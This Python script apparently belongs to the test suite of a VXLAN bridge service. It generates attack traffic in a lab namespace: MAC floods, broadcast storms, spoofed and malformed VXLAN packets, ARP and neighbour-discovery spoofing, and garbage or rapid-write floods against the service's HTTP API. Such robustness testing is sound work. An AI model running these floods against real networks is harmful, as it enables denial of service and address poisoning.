"""One attacker, as a process of its own so that it takes no time from who measures: sends at a rate for some seconds
and says how much it sent.

    python3 attack.py KIND --rate 20000 --seconds 5 --ifname eth0 --to MAC --victim 10.10.10.1 --from 10.10.10.2

It sends by one interface, or to one address, and nowhere else: run it in a namespace of a laboratory."""

import argparse
import contextlib
import http.client
import json
import os
import random
import socket
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "Topology"))

from frames import (  # noqa: E402 - its directory had to be named first
    BROADCAST, UDP, arp, ethernet, icmp6, ipv4, ipv6, mac_bytes, mac_text, probe, udp, vxlan)

PORT, VNI = 4789, 100
OUTSIDER = "02:00:00:00:ba:d1"  # whom those on the wire would like to be known as
WRITTEN = 20  # bridges
DISTINCT = 2000  # frames that are made before; all of them are sent again and again


def station(dice):
    return mac_text(bytes([2]) + dice.randbytes(5))


def macs(options, dice):
    """From a new address each, to one that nobody has."""
    frame = probe("02:99:99:99:99:99", "02:00:00:00:00:00", b"flood")
    while True:
        yield frame[:6] + b"\x02" + dice.randbytes(5) + frame[12:]


def broadcasts(options, dice):
    """To everybody, from one station."""
    return again([probe(BROADCAST, "02:00:00:00:57:09", b"storm")])


def outer(options, source, payload):
    """A UDP datagram to the victim's VXLAN port, from whomever."""
    datagram = udp(source, options.victim, 50_000, PORT, payload)
    return ethernet(options.to, OUTSIDER, 0x0800, ipv4(source, options.victim, UDP, datagram))


def strangers(options, dice):
    """VXLAN in good order, from addresses that no tunnel leads to."""
    inner = probe(BROADCAST, OUTSIDER, b"stranger")
    return again([outer(options, f"10.10.10.{dice.randrange(100, 250)}", vxlan(VNI, inner)) for _ in range(DISTINCT)])


def flags(options, dice):
    """From the tunnel's remote, with a VXLAN header that is wrong."""
    inner = probe(BROADCAST, OUTSIDER, b"flags")
    wrong = [value for value in range(256) if value != 8]
    return again([outer(options, options.source, vxlan(VNI, inner, flags=dice.choice(wrong)))
                  for _ in range(DISTINCT)])


def noise(options, dice):
    """From the tunnel's remote, random bytes."""
    return again([outer(options, options.source, dice.randbytes(dice.randrange(0, 600))) for _ in range(DISTINCT)])


def arps(options, dice):
    """Questions and gratuitous answers about addresses of the whole network, the remote's not among them."""
    made = []
    for _ in range(DISTINCT):
        mac, address = station(dice), f"10.10.10.{dice.randrange(50, 250)}"
        operation, target = dice.choice([(1, options.victim), (2, address), (1, address)])
        made.append(ethernet(dice.choice([BROADCAST, options.to]), mac, 0x0806,
                             arp(mac, address, target, operation=operation)))
    return again(made)


def nds(options, dice):
    """Solicitations and advertisements, likewise."""
    made = []
    for _ in range(DISTINCT):
        mac, address = station(dice), f"fd00:10::{dice.randrange(0x50, 0xfff0):x}"
        target = socket.inet_pton(socket.AF_INET6, dice.choice([address, "fd00:10::1"]))
        kind, option = dice.choice([(135, 1), (136, 2)])
        message = bytes([kind, 0, 0, 0, 0x20 if kind == 136 else 0, 0, 0, 0]) + target + bytes([option, 1])
        body = icmp6(address, "fd00:10::1", message + mac_bytes(mac))
        made.append(ethernet(options.to, mac, 0x86DD, ipv6(address, "fd00:10::1", 58, body, hops=255)))
    return again(made)


def again(frames):
    while True:
        yield from frames


def by_interface(options, frames):
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sender.bind((options.ifname, 0))
    for sent in paced(options):
        try:
            sender.send(next(frames))
        except OSError:  # no room at the moment: it is not sent
            continue
        options.sent = sent


def paced(options):
    """Counts up to what the rate allows, for so long and not a moment longer."""
    start, count = time.monotonic(), 0
    while (passed := time.monotonic() - start) < options.seconds:
        if count < int(passed * options.rate):
            count += 1
            yield count
        else:
            time.sleep(0.001)


def garbage(options):
    """Random bytes to the API, `rate` of 4 KiB a second, by connections that are made anew when they are cut."""
    made, block = None, os.urandom(4096)
    for sent in paced(options):
        try:
            if made is None:
                made = socket.socket()
                made.settimeout(0.2)
                made.bind((f"127.0.0.{random.randrange(10, 40)}", 0))
                made.connect((options.victim, 8640))
            made.sendall(block)
            options.sent = sent
        except OSError:
            with contextlib.suppress(OSError):
                made.close()
            made = None


def writes(options):
    """Bridges that are changed as fast as one client may."""
    client = http.client.HTTPConnection(options.victim, 8640, timeout=10, source_address=("127.0.0.4", 0))
    for sent in paced(options):
        client.request("PUT", f"/v1/bridges/storm{sent % WRITTEN}", json.dumps({"mtu": 1300 + sent % 100}),
                       {"Content-Type": "application/json"})
        answer = client.getresponse()
        answer.read()
        assert answer.status in (200, 201), answer.status
        options.sent = sent


def main():
    kinds = {each.__name__: each for each in (macs, broadcasts, strangers, flags, noise, arps, nds)}
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=[*kinds, "garbage", "writes"])
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--ifname", default="eth0")
    parser.add_argument("--to", default=BROADCAST)
    parser.add_argument("--victim", default="10.10.10.1")
    parser.add_argument("--from", dest="source", default="10.10.10.2")
    options = parser.parse_args()
    options.sent = 0
    assert 0 < options.seconds <= 60 and 0 < options.rate <= 200_000
    if options.kind in ("garbage", "writes"):
        {"garbage": garbage, "writes": writes}[options.kind](options)
    else:
        by_interface(options, kinds[options.kind](options, random.Random(1)))
    print(options.sent)


if __name__ == "__main__":
    main()
